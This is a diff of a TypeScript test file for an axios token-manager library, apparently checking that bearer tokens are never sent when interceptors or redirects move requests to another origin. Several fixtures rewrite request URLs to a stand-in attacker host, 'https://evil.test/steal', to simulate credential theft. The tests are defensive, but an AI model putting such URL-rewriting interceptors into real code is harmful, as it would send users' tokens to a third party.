@@ -1,6 +1,6 @@
 import type { TokenManager } from '@tessera/core';
 import { createDPoP } from '@tessera/dpop';
-import axios, { type AxiosError, type AxiosInstance, type AxiosRequestTransformer } from 'axios';
+import axios, { type AxiosError, type AxiosInstance, type InternalAxiosRequestConfig } from 'axios';
 import axios112 from 'axios-1-12';
 import { afterEach, describe, expect, it } from 'vitest';
 import { countingTokens } from '../../e2e-support/test-support/counting-tokens.js';
@@ -53,9 +53,10 @@ async function setup(
       config.baseURL = 'https://evil.test';
     }
     if (config.url === '/rebuilt') {
-      // A new config object whose transforms are its own: our send-time check is not among them.
+      // A new config object, with transforms of its own.
       return { ...config, url: 'https://evil.test/steal', transformRequest: [(data: unknown) => data] };
     }
+    if (config.url === '/spread') return { ...config, url: 'https://evil.test/steal' };
     const url = config.url as unknown;
     if (url instanceof URL && url.pathname === '/in-place') url.hostname = 'evil.test';
     return config;
@@ -111,16 +112,76 @@ describe.each(versions)('a user interceptor that runs after ours, with %s', (_na
     expect(fetchTokens).not.toHaveBeenCalled();
   });
 
-  it('a new config object without our check still reaches evil.test with the token (outside what we see), but its 401 refreshes and replays nothing', async () => {
+  it('never sends the token where a new config object it returns goes (with transforms of its own or not); its 401 refreshes nothing', async () => {
     const { instance, calls, fetchTokens } = await setup(create, fromEvil);
-    const error = await instance.get('/rebuilt').catch((reason: AxiosError) => reason);
-    expect((error as AxiosError).response?.status).toBe(401);
+    const rebuilt = await instance.post('/rebuilt', 'raw').catch((reason: AxiosError) => reason);
+    const spread = await instance.get('/spread').catch((reason: AxiosError) => reason);
+    expect([rebuilt, spread].map((error) => (error as AxiosError).response?.status)).toEqual([401, 401]);
     // Where it went, and the header as it was sent.
-    expect(calls.map((call) => [sentOf([call])[0]?.[0], call.authorization])).toEqual([
-      ['https://evil.test', 'Bearer at-0'],
+    expect(calls.map((call) => [sentOf([call])[0]?.[0], call.authorization ?? null])).toEqual([
+      ['https://evil.test', null],
+      ['https://evil.test', null],
+    ]);
+    expect(calls[0]?.config.data).toBe('raw');
+    expect(fetchTokens).not.toHaveBeenCalled();
+  });
+
+  it('never sends the token where an async interceptor or a synchronous one moved the request', async () => {
+    const api = fakeApi(fromEvil);
+    const { tokens, fetchTokens } = await countingTokens();
+    managers.push(tokens);
+    const instance = create(api.adapter as never);
+    instance.interceptors.request.use(async (config) => {
+      if (config.url === '/async') return { ...config, url: 'https://evil.test/steal' };
+      return config;
+    });
+    instance.interceptors.request.use(
+      (config) => {
+        if (config.url === '/sync') config.baseURL = 'https://evil.test';
+        return config;
+      },
+      undefined,
+      { synchronous: true },
+    );
+    attachTokenManager(instance, tokens);
+    await instance.get('/async').catch(() => undefined);
+    await instance.get('/sync').catch(() => undefined);
+    await instance.get('/orders');
+    expect(sentOf(api.calls)).toEqual([
+      ['https://evil.test', null, null],
+      ['https://evil.test', null, null],
+      [baseURL, 'Bearer at-0', null],
     ]);
     expect(fetchTokens).not.toHaveBeenCalled();
-    expect(JSON.stringify(error)).not.toContain('at-0');
+  });
+
+  it('keeps the redirect guard when it replaces beforeRedirect: the token never follows a redirect to another origin; its hook still runs', async () => {
+    const hops: unknown[] = [];
+    const redirected: Array<Record<string, unknown>> = [];
+    const api = fakeApi(({ config }) => {
+      // What follow-redirects does before a hop of the http adapter.
+      const options = {
+        href: 'https://evil.test/next',
+        headers: { Authorization: config.headers.get('Authorization') },
+      };
+      (config.beforeRedirect as (options: unknown, response: unknown) => void)(options, {});
+      redirected.push(options.headers);
+      return { status: 200 };
+    });
+    const { tokens } = await countingTokens();
+    managers.push(tokens);
+    const instance = create(api.adapter as never);
+    instance.interceptors.request.use((config) => {
+      config.beforeRedirect = (options) => {
+        hops.push(options.href);
+      };
+      return config;
+    });
+    attachTokenManager(instance, tokens);
+    await instance.get('/orders');
+    expect(api.calls.map((call) => call.authorization)).toEqual(['Bearer at-0']);
+    expect(hops).toEqual(['https://evil.test/next']);
+    expect(redirected).toEqual([{}]);
   });
 
   it('keeps the token when it moves the request within allowed origins', async () => {
@@ -198,30 +259,92 @@ describe('detach() and the send-time check', () => {
     expect(fetchTokens).not.toHaveBeenCalled();
   });
 
-  it('takes its check out of the instance’s transformRequest, keeping yours and another attachment’s', async () => {
+  it('detach() gives your interceptors their own functions back, in either order of two attachments; the other one still checks', async () => {
     const api = fakeApi(fromEvil);
     const { tokens } = await countingTokens();
     managers.push(tokens);
     const instance = axios.create({ baseURL, adapter: api.adapter });
-    const yours = (data: unknown) => data;
-    instance.defaults.transformRequest = [
-      ...(instance.defaults.transformRequest as AxiosRequestTransformer[]),
-      yours,
-    ];
-    const before = [...(instance.defaults.transformRequest as unknown[])];
-    instance.interceptors.request.use((config) => {
+    const transforms = instance.defaults.transformRequest;
+    const ejected = instance.interceptors.request.use((config) => config);
+    const moves = (config: InternalAxiosRequestConfig) => {
       if (config.url === '/moved') config.url = 'https://evil.test/steal';
       return config;
-    });
+    };
+    const rejected = (error: unknown) => Promise.reject(error);
+    const runWhen = () => true;
+    instance.interceptors.request.use(moves, rejected, { synchronous: true, runWhen });
+    instance.interceptors.request.eject(ejected);
+    const handlers = (
+      instance.interceptors.request as unknown as { handlers: Array<Record<string, unknown> | null> }
+    ).handlers;
     const detachFirst = attachTokenManager(instance, tokens);
     const detachSecond = attachTokenManager(instance, tokens, { header: 'X-Api-Token' });
+    expect(handlers[1]?.fulfilled).not.toBe(moves);
+    expect([handlers[1]?.rejected, handlers[1]?.synchronous, handlers[1]?.runWhen]).toEqual([
+      rejected,
+      true,
+      runWhen,
+    ]);
     detachFirst();
-    expect(instance.defaults.transformRequest).toHaveLength(before.length + 1);
-    // The other attachment still checks where axios sends.
+    expect(handlers[1]?.fulfilled).not.toBe(moves);
+    // The other attachment still checks where the request goes.
     await instance.get('/moved').catch(() => undefined);
     expect(api.calls[0]?.config.headers.get('X-Api-Token') ?? null).toBeNull();
     detachSecond();
-    expect(instance.defaults.transformRequest).toEqual(before);
+    expect(handlers[1]).toEqual({ fulfilled: moves, rejected, synchronous: true, runWhen });
+    expect(instance.defaults.transformRequest).toBe(transforms);
+
+    const detachA = attachTokenManager(instance, tokens);
+    const detachB = attachTokenManager(instance, tokens, { header: 'X-Api-Token' });
+    detachB();
+    detachA();
+    expect(handlers[1]?.fulfilled).toBe(moves);
+  });
+
+  it('detach() leaves a function you put in place of the wrapped one, and an interceptor you ejected meanwhile', async () => {
+    const { tokens } = await countingTokens();
+    managers.push(tokens);
+    const instance = axios.create({ baseURL });
+    const first = instance.interceptors.request.use((config) => config);
+    const second = instance.interceptors.request.use((config) => config);
+    const handlers = (
+      instance.interceptors.request as unknown as { handlers: Array<{ fulfilled: unknown } | null> }
+    ).handlers;
+    const kept = handlers[0];
+    const detach = attachTokenManager(instance, tokens);
+    const yours = (config: unknown) => config;
+    (handlers[1] as { fulfilled: unknown }).fulfilled = yours;
+    instance.interceptors.request.eject(first);
+    detach();
+    expect(handlers[1]?.fulfilled).toBe(yours);
+    expect(handlers[0]).toBeNull();
+    expect((kept as { fulfilled: unknown }).fulfilled).not.toBe(yours);
+    instance.interceptors.request.eject(second);
+  });
+
+  it('a synchronous interceptor stays synchronous: its wrapped function returns the config, without our token once moved', async () => {
+    const { tokens } = await countingTokens();
+    managers.push(tokens);
+    const instance = axios.create({ baseURL });
+    instance.interceptors.request.use(
+      (config) => {
+        config.url = 'https://evil.test/steal';
+        return config;
+      },
+      undefined,
+      { synchronous: true },
+    );
+    attachTokenManager(instance, tokens);
+    const [theirs, ours] = (
+      instance.interceptors.request as unknown as {
+        handlers: Array<{ fulfilled: (config: unknown) => unknown }>;
+      }
+    ).handlers;
+    const config = { baseURL, url: '/orders', headers: new axios.AxiosHeaders() };
+    expect(ours?.fulfilled(config)).toBe(config);
+    expect(config.headers.get('Authorization')).toBe('Bearer at-0');
+    expect(theirs?.fulfilled(config)).toBe(config);
+    expect(config.headers.get('Authorization')).toBeUndefined();
   });
 
   it.each(versions)(
@@ -248,4 +371,27 @@ describe('detach() and the send-time check', () => {
       expect(Object.getOwnPropertyDescriptor(api.calls[1]?.config, 'transformRequest')?.set).toBeUndefined();
     },
   );
+
+  it('judges at send with legacyInterceptorReqResOrdering: false (axios ≥ 1.13), where an interceptor registered after ours runs after it', async () => {
+    const api = fakeApi(fromEvil);
+    const { tokens } = await countingTokens();
+    managers.push(tokens);
+    const instance = axios.create({
+      baseURL,
+      adapter: api.adapter,
+      transitional: { legacyInterceptorReqResOrdering: false } as never,
+    });
+    attachTokenManager(instance, tokens);
+    // Registered after attachTokenManager: in registration order, it runs after ours.
+    instance.interceptors.request.use((config) => {
+      if (config.url === '/moved') config.url = 'https://evil.test/steal';
+      return config;
+    });
+    await instance.get('/moved').catch(() => undefined);
+    await instance.get('/orders');
+    expect(sentOf(api.calls)).toEqual([
+      ['https://evil.test', null, null],
+      [baseURL, 'Bearer at-0', null],
+    ]);
+  });
 });
